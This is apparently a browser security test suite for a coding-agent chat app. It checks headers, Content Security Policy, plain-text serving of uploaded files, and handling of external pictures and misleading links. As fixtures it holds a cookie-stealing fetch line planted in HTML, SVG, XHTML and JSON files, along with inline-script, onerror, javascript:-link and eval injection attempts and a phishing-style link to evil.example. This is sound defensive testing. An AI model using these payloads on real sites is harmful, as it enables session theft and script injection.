// What pages and files may do in a browser: their headers, and the limits of untrusted text.

import { ownerLink } from "../../scripts/sign_in/link.mjs";
import type { App } from "../fixture/app.ts";
import { Files } from "../fixture/files.ts";
import { OWNER_SECRET, SIGN_IN } from "../fixture/people.ts";
import { Site } from "../fixture/site.ts";
import { RawSocket } from "../fixture/socket.ts";
import { expect, settingsFor, test as base } from "../fixture/test.ts";

const test = base.extend<{ site: Site }>({
  site: async ({}, use) => {
    const site = await Site.start();
    await use(site);
    await site.close();
  },
});

/** The headers of every response. */
const EVERYWHERE = {
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
};

/** A script of ours, from the page. */
async function scriptOf(app: App): Promise<string> {
  const html = await (await fetch(app.url)).text();
  return /\/pkg\/app\.[0-9a-f]+\.js/.exec(html)![0];
}

async function put(app: App, name: string, path: string, body: string): Promise<string> {
  const address = `${app.url}/agents/coderagent/${name}/files/${path}`;
  expect((await fetch(address, { method: "PUT", body })).status).toBe(201);
  return address;
}

test("every response has headers that limit what a browser may do with it", async ({ app, name }) => {
  const file = await put(app, name, "a.txt", "a");
  const agent = `${app.url}/agents/coderagent/${name}`;
  const refused = new Headers({ Origin: "https://evil.example" });
  for (const [address, headers] of [
    [`${app.url}/`],
    [`${app.url}/chat/${name}`],
    [`${app.url}/doctor`],
    [`${app.url}/no/such/page`],
    [`${app.url}/health`],
    [`${app.url}/health`, refused],
    [`${app.url}/agents`],
    [`${app.url}/agents/nobody/a`],
    [`${agent}/get-messages`],
    [`${agent}/no/such/thing`],
    [`${agent}/files`],
    [`${agent}/archive`],
    [file],
    [`${app.url}/favicon.svg`],
    [`${app.url}${await scriptOf(app)}`],
  ] as [string, Headers?][]) {
    const response = await fetch(address, headers ? { headers } : {});
    await response.body?.cancel();
    const found = Object.fromEntries(response.headers);
    // Browsers refuse to show a sandboxed document that has an opener policy.
    const opener = address === file ? "unsafe-none" : "same-origin";
    expect(found, address).toMatchObject({ ...EVERYWHERE, "cross-origin-opener-policy": opener });
    const policy = found["content-security-policy"] ?? "";
    expect(policy, address).toMatch(/default-src 'none'/);
    expect(policy, address).toMatch(/frame-ancestors 'none'/);
    expect(policy, address).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/);
    if (found["content-type"]?.startsWith("text/html")) expect(found["cache-control"], address).toBe("no-store");
  }
});

test("a page's policy is of that page alone, and its own scripts are the only ones it runs", async ({
  app,
  chat,
  consoleWatch,
  name,
  page,
}) => {
  const nonceOf = async () => {
    const response = await fetch(`${app.url}/chat/${name}`);
    const nonce = /script-src 'nonce-([^']+)'/.exec(response.headers.get("content-security-policy")!)![1]!;
    const html = await response.text();
    for (const [script] of html.matchAll(/<script[^>]*>/g)) expect(script).toContain(`nonce="${nonce}"`);
    expect(html).not.toMatch(/ on[a-z]+=| style=/);
    return nonce;
  };
  expect(await nonceOf()).not.toBe(await nonceOf());
  await chat.open(name);
  consoleWatch.allow(/Content Security Policy|status of 404/);
  const ran = await page.evaluate(async () => {
    const tried = window as unknown as { tried: string[] };
    tried.tried = [];
    const script = document.createElement("script");
    script.textContent = "tried.push('inline script')";
    document.body.append(script);
    const holder = document.createElement("div");
    holder.innerHTML = `<img src="/none.png" onerror="tried.push('handler')"><a href="javascript:tried.push('link')">Run</a>`;
    document.body.append(holder);
    holder.querySelector("a")!.click();
    await new Promise((resolve) => holder.querySelector("img")!.addEventListener("error", resolve));
    // Not earlier: scripts of the test may start others until it waits.
    try {
      (0, eval)("tried.push('eval')");
    } catch {
      tried.tried.push("no eval");
    }
    return tried.tried;
  });
  expect(ran).toEqual(["no eval"]);
});

test("pages, drawer and check work under the policy, without a single violation", async ({
  app,
  chat,
  consoleWatch,
  name,
  page,
}) => {
  consoleWatch.allow(/status of 404/);
  // Every test sees violations as console errors; here they are counted too.
  const violations: string[] = [];
  await page.exposeFunction("violated", (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    const { violated } = window as unknown as { violated: (directive: string) => void };
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
      violated(`${violatedDirective} ${blockedURI}`);
    });
  });
  await put(app, name, "a.txt", "a text");
  await chat.openStart();
  await chat.open(name);
  await chat.send("[[fake:markdown]]");
  await expect(chat.answers).toContainText("smallphone");
  const files = new Files(page);
  await files.open();
  await files.entry("a.txt").click();
  await expect(files.content).toContainText("a text");
  await page.goto(`${app.url}/doctor?name=${name}`);
  await expect(page.getByRole("status")).toHaveText("Everything works.", { timeout: 30_000 });
  await page.goto(`${app.url}/no/such/page`);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(violations).toEqual([]);
});

test("people sign in on a page that has its style and runs nothing", async ({ chatAt, page, startApp }) => {
  const app = await startApp({ settings: { PROVIDER: "demo", ...SIGN_IN } });
  await page.goto(`${app.url}/sign-in?link=${ownerLink(OWNER_SECRET, Date.now() + 60_000)}`);
  expect(await page.evaluate(() => document.styleSheets.length)).toBe(1);
  await page.getByRole("button").click();
  await expect(page).toHaveURL(`${app.url}/`);
  await chatAt(app.url).interactive();
});

test("a file of the conversation runs nothing when it is opened", async ({ app, consoleWatch, name, page, site }) => {
  consoleWatch.allow(/./);
  const steal = `fetch("${site.url}/stolen?" + document.cookie)`;
  const documents = {
    "page.html": `<!doctype html><title>Page</title><script>${steal}</script><img src="${site.url}/picture"><p>A page</p>`,
    "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload='${steal}'><script>${steal}</script><image href="${site.url}/picture"/></svg>`,
    "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>${steal}</script></head></html>`,
    "page.xml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${steal}</script></html>`,
    "script.js": steal,
    "data.json": `{"a":"<script>${steal.replaceAll('"', "'")}</script>"}`,
  };
  // On another site, each of the first three does what this test must not see.
  site.put("/control", documents["page.html"]);
  await page.goto(`${site.url}/control`);
  await expect.poll(() => site.asked).toEqual(expect.arrayContaining(["/picture", "/stolen"]));
  site.asked.length = 0;
  for (const [path, body] of Object.entries(documents)) {
    const address = await put(app, name, path, body);
    const response = await page.goto(address, { waitUntil: "load" });
    expect(response?.headers()["content-type"], path).toMatch(/^text\/plain/);
    await expect(page.locator("body"), path).toContainText(body.slice(0, 20));
  }
  site.put("/last", "<p>The last one</p>");
  // Any request of the documents above would have arrived before this one.
  await page.goto(`${site.url}/last`);
  expect(site.asked).toEqual(["/last"]);
});

/** A picture of one point. */
const DOT = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

test("a picture of another server is asked for on a click, and nothing else of it ever", async ({
  chat,
  consoleWatch,
  name,
  page,
  site,
}) => {
  // The browser treats the test's look at the document around the picture as a script.
  consoleWatch.allow(/Blocked script execution in .*\/picture/);
  site.put("/pear.png", { type: "image/png", body: DOT });
  site.put("/page", `<!doctype html><script>fetch("/ran")</script>`);
  const secret = "?told=secret";
  await chat.open(name);
  await chat.send(`[[fake:echo]] ![A pear](${site.url}/pear.png${secret}) ![A page](${site.url}/page) <img src="${site.url}/raw">`);
  await chat.settled();
  const answer = chat.answers.last();
  await expect(answer.getByRole("link", { name: "A pear (127.0.0.1)" })).toBeVisible();
  const buttons = answer.getByRole("button", { name: "Show picture from 127.0.0.1" });
  await expect(buttons).toHaveCount(2);
  await chat.reload();
  await expect(buttons).toHaveCount(2);
  expect(site.asked).toEqual([]);
  await buttons.first().click();
  const picture = page.frameLocator("iframe[title='A pear']").locator("img");
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  await buttons.first().click();
  await expect.poll(() => site.asked).toEqual(["/pear.png", "/page"]);
});

test("pictures of an allowed server are shown at once, by a page without script too", async ({
  model,
  name,
  plainPage,
  site,
  startApp,
}) => {
  site.put("/pear.png", { type: "image/png", body: DOT });
  const app = await startApp({ settings: { ...settingsFor(model), IMAGE_HOSTS: "127.0.0.1" } });
  const socket = await RawSocket.open(app.url, name);
  await socket.end(socket.ask(`[[fake:echo]] ![A pear](${site.url}/pear.png)`));
  socket.close();
  await plainPage.goto(`${app.url}/chat/${name}`);
  await expect(plainPage.locator("iframe[title='A pear']").last()).toBeVisible();
  await expect.poll(() => site.asked).toContain("/pear.png");
});

test("a link whose text names another host says where it leads", async ({ chat, name }) => {
  await chat.open(name);
  await chat.send("[[fake:echo]] [https://good.example/login](https://evil.example/) and [the book](https://doc.example/)");
  const answer = chat.answers.last();
  await expect(answer.getByRole("link", { name: "https://good.example/login (evil.example)" })).toBeVisible();
  await expect(answer.getByRole("link", { name: "the book", exact: true })).toBeVisible();
});
